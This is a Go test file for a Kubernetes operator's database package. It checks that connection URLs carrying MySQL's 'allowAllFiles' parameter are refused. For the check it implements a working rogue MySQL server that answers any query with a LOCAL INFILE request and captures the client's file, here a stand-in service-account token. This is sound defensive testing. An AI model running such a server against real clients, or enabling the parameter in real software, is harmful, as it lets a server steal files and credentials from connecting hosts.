package database_test

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"os"
	"path/filepath"
	"sync"
	"testing"
	"time"

	. "github.com/onsi/gomega"

	"github.com/mohit-nagaraj/kube-shift/internal/database"
)

// rogueMySQL is a MySQL server an author runs: it accepts any login and
// answers the first query with a LOCAL INFILE request for path, keeping
// whatever the client sends back.
type rogueMySQL struct {
	ln   net.Listener
	path string
	mu   sync.Mutex
	got  []byte
}

func startRogueMySQL(t *testing.T, path string) *rogueMySQL {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	NewWithT(t).Expect(err).NotTo(HaveOccurred())
	r := &rogueMySQL{ln: ln, path: path}
	t.Cleanup(func() { _ = ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go r.serve(c)
		}
	}()
	return r
}

func (r *rogueMySQL) stolen() []byte {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]byte(nil), r.got...)
}

func writePacket(w io.Writer, seq byte, payload []byte) error {
	h := []byte{byte(len(payload)), byte(len(payload) >> 8), byte(len(payload) >> 16), seq}
	_, err := w.Write(append(h, payload...))
	return err
}

func readPacket(rd io.Reader) (byte, []byte, error) {
	var h [4]byte
	if _, err := io.ReadFull(rd, h[:]); err != nil {
		return 0, nil, err
	}
	n := int(h[0]) | int(h[1])<<8 | int(h[2])<<16
	p := make([]byte, n)
	_, err := io.ReadFull(rd, p)
	return h[3], p, err
}

var okPacket = []byte{0x00, 0x00, 0x00, 0x02, 0x00, 0x00, 0x00}

func (r *rogueMySQL) serve(c net.Conn) {
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(20 * time.Second))
	// Protocol 10 greeting: 4.1 protocol, secure connection, plugin auth,
	// LOCAL INFILE; no TLS.
	var g bytes.Buffer
	g.WriteByte(10)
	g.WriteString("8.0.36\x00")
	_ = binary.Write(&g, binary.LittleEndian, uint32(1))
	g.WriteString("abcdefgh\x00")
	_ = binary.Write(&g, binary.LittleEndian, uint16(0xf7ff))
	g.WriteByte(0x21)
	_ = binary.Write(&g, binary.LittleEndian, uint16(2))
	_ = binary.Write(&g, binary.LittleEndian, uint16(0x0008))
	g.WriteByte(21)
	g.Write(make([]byte, 10))
	g.WriteString("ijklmnopqrst\x00")
	g.WriteString("mysql_native_password\x00")
	if writePacket(c, 0, g.Bytes()) != nil {
		return
	}
	if _, _, err := readPacket(c); err != nil { // login: accepted whatever it is
		return
	}
	if writePacket(c, 2, okPacket) != nil {
		return
	}
	for {
		_, cmd, err := readPacket(c)
		if err != nil || len(cmd) == 0 {
			return
		}
		switch cmd[0] {
		case 0x01: // COM_QUIT
			return
		case 0x03: // COM_QUERY: ask for the operator's file instead of answering
			if writePacket(c, 1, append([]byte{0xfb}, r.path...)) != nil {
				return
			}
			seq := byte(2)
			for {
				s, data, err := readPacket(c)
				if err != nil {
					return
				}
				seq = s + 1
				if len(data) == 0 {
					break
				}
				r.mu.Lock()
				r.got = append(r.got, data...)
				r.mu.Unlock()
			}
			if writePacket(c, seq, okPacket) != nil {
				return
			}
		default: // COM_PING and the rest
			if writePacket(c, 1, okPacket) != nil {
				return
			}
		}
	}
}

// A migration's connection Secret is its author's, and the operator
// connects to the server its url names before any review. The MySQL
// driver hands that server any file of the operator's disk it asks for
// (LOAD DATA LOCAL INFILE, in answer to any query) with allowAllFiles:
// the parameter is refused, and a URL that carries it anyway connects
// without it.
func TestMySQLServerCannotReadTheOperatorsFiles(t *testing.T) {
	g := NewWithT(t)
	secretFile := filepath.Join(t.TempDir(), "token")
	g.Expect(os.WriteFile(secretFile, []byte("operator-service-account-token"), 0o600)).To(Succeed())
	rogue := startRogueMySQL(t, secretFile)
	raw := "mysql://app:app@" + rogue.ln.Addr().String() + "/shop"

	_, err := database.FromConfig(database.Config{Kind: database.KindMySQL, Database: "shop"},
		map[string][]byte{"url": []byte(raw + "?allowAllFiles=true")})
	g.Expect(err).To(MatchError(ContainSubstring("parameter allowAllFiles is refused")))
	_, err = database.ParseURL(raw + "?AllowAllFiles=true")
	g.Expect(err).To(MatchError(ContainSubstring("is refused")), "in any case")

	// Past ParseURL (a URL built elsewhere), the connection still serves
	// no file.
	target, err := database.ParseURL(raw)
	g.Expect(err).NotTo(HaveOccurred())
	target.URL.RawQuery = "allowAllFiles=true"
	ctx, cancel := context.WithTimeout(context.Background(), 15*time.Second)
	defer cancel()
	if db, err := target.Open(ctx); err == nil {
		_, _ = db.ExecContext(ctx, "SELECT 1")
		_ = db.Close()
	}
	g.Expect(string(rogue.stolen())).NotTo(ContainSubstring("operator-service-account-token"),
		"the server the url names read a file of the operator's disk")
}
